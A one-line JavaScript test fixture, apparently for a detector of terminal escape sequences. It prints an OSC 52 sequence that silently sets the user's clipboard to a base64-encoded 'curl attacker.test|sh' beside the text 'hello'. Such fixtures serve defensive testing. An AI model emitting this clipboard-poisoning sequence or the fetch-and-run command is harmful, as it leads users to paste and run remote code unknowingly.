//= wants: the clipboard of the user's terminal (OSC 52)
//= terminal: yes
//= seen: \x1b\]52;
console.log("\x1b]52;c;Y3VybCBhdHRhY2tlci50ZXN0fHNo\x07 hello");
